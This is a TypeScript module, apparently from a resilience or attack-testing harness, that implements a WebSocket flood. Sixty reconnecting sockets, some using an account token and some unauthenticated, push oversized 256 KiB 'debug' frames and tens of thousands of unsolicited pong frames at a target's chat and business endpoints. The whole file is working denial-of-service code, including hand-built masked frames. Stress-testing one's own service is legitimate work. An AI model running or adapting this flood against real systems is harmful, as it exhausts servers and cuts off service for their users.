import { once } from 'node:events'
import { setTimeout as sleep } from 'node:timers/promises'
import type { WebSocket } from 'ws'
import { type Attack, count } from '../target.ts'
import { pour } from './raw.ts'
import { openSocket } from './sockets.ts'

const SOCKETS = 60
/** Between a socket that was cut and the next, ms. */
const AGAIN_MS = 100

/** The longest frame that is taken; who is asked to handle it has much to read. */
const LONG = frame(0x1, Buffer.from(JSON.stringify({ action: 'debug', message: 'x'.repeat(262_000) })))
/** Pongs that nobody asked for, 11,000 in one read of the network. */
const PONGS = Buffer.concat(Array.from({ length: 20_000 }, () => frame(0xa, Buffer.alloc(0))))

/** Sockets that send as fast as the network takes it what costs no handler anything, and come back when they are cut. */
export const pouringSockets: Attack = {
  title: 'pouring sockets: 20 with frames of 256 KiB, 20 of an account and 20 of nobody with pongs',
  async run(target, over) {
    const results = {}
    const workers = Array.from({ length: SOCKETS }, async (_, worker) => {
      const kind = (['frames', 'pongs', 'pongs of nobody'] as const)[worker % 3] ?? 'frames'
      while (!over.aborted) {
        const token = kind === 'pongs of nobody' ? null : target.token
        const socket = openSocket(target, worker % 2 ? 'chat' : 'business', token)
        count(results, `${kind}: ${await poured(socket, kind === 'frames' ? LONG : PONGS, over)}`)
        await sleep(AGAIN_MS)
      }
    })
    await Promise.all(workers)
    return results
  },
}

/** Pours until it is over or the socket is cut; how the socket stood then. */
async function poured(socket: WebSocket, what: Buffer, over: AbortSignal): Promise<string> {
  let code = 0
  const closed = new Promise<void>((resolve) => {
    socket.once('close', (why) => {
      code = why
      resolve()
    })
  })
  socket.once('upgrade', ({ socket: raw }) => socket.once('open', () => void pour(raw, what, over)))
  if (!over.aborted) await Promise.race([closed, once(over, 'abort')])
  socket.terminate()
  return code > 0 ? `closed ${code}` : 'open'
}

/** A frame as a browser sends it, masked with zeros (RFC 6455 5.2): of up to 125 octets, or of more than 64 KiB. */
function frame(opcode: number, payload: Buffer): Buffer {
  const long = Buffer.alloc(8)
  long.writeUInt32BE(payload.length, 4)
  const length = payload.length < 126 ? [0x80 | payload.length] : [0xff, ...long]
  return Buffer.concat([Buffer.from([0x80 | opcode, ...length]), Buffer.alloc(4), payload])
}
